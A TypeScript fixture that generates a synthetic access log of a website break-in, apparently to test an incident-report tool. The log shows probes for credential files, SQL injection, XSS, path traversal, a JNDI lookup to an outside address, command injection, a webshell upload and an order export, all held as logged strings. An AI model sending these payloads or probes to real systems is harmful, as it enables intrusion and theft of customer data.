import type { LoggedRequest } from './logged-request.ts';

const HOUR = 3_600_000;

/** Who breaks in, and through what: the facts that a report must get right. */
export const BREAK_IN = {
  scanner: '203.0.113.66',
  second: '198.51.100.23',
  webshell: '/content/banner.php',
  export: '/admin/orders/export?from=2026-01-01&to=2026-03-02',
} as const;

const PROBES = [
  '/.env',
  '/.git/config',
  '/wp-login.php',
  '/phpmyadmin/',
  '/backup.zip',
  '/admin.php',
  '/server-status',
  '/config.php.bak',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/cgi-bin/test.cgi',
  '/.aws/credentials',
  '/dump.sql',
];

const INJECTIONS = [
  "x' OR '1'='1",
  "x' UNION SELECT login_id,password FROM dtb_member-- ",
  "1;WAITFOR DELAY '0:0:5'--",
  '<script>alert(document.cookie)</script>',
  '../../../../etc/passwd',
  '${jndi:ldap://198.51.100.99/a}',
  ';cat /etc/passwd',
];

/**
 * On the second day somebody looks for holes, tries injections, drops a script by PUT and talks with it. On the
 * third day another address talks with the same script, enters the admin pages and exports the orders.
 */
export function breakIn(start: number): LoggedRequest[] {
  const first = { address: BREAK_IN.scanner, userAgent: 'Mozilla/5.0 (compatible; scan)', bytes: 1_220 };
  const second = { address: BREAK_IN.second, userAgent: 'curl/8.5.0' };
  const scanAt = start + 28 * HOUR;
  const shellAt = scanAt + HOUR;
  const returnAt = start + 50 * HOUR;
  const shell = { method: 'POST', target: BREAK_IN.webshell, status: 200 };
  return [
    ...PROBES.map((target, n) => ({ ...first, at: scanAt + n * 1000, method: 'GET', target, status: 404 })),
    ...INJECTIONS.map((value, n) => ({
      ...first,
      at: scanAt + 60_000 + n * 1000,
      method: 'GET',
      target: `/products/list?name=${encodeURIComponent(value)}`,
      status: 200,
      bytes: 20_400,
    })),
    { ...first, at: shellAt, method: 'PUT', target: BREAK_IN.webshell, status: 201, bytes: 0 },
    ...[1, 2, 3, 4].map((n) => ({ ...first, ...shell, at: shellAt + n * 30_000, bytes: 300 + n * 911 })),
    ...[1, 2].map((n) => ({ ...second, ...shell, at: returnAt + n * 20_000, bytes: 4_000 + n })),
    { ...second, at: returnAt + 300_000, method: 'GET', target: '/admin/login', status: 200, bytes: 3_300 },
    { ...second, at: returnAt + 310_000, method: 'POST', target: '/admin/login', status: 302, bytes: 0 },
    { ...second, at: returnAt + 320_000, method: 'GET', target: '/admin/orders', status: 200, bytes: 40_112 },
    {
      ...second,
      at: returnAt + 400_000,
      method: 'GET',
      target: BREAK_IN.export,
      status: 200,
      bytes: 2_345_678,
    },
  ];
}
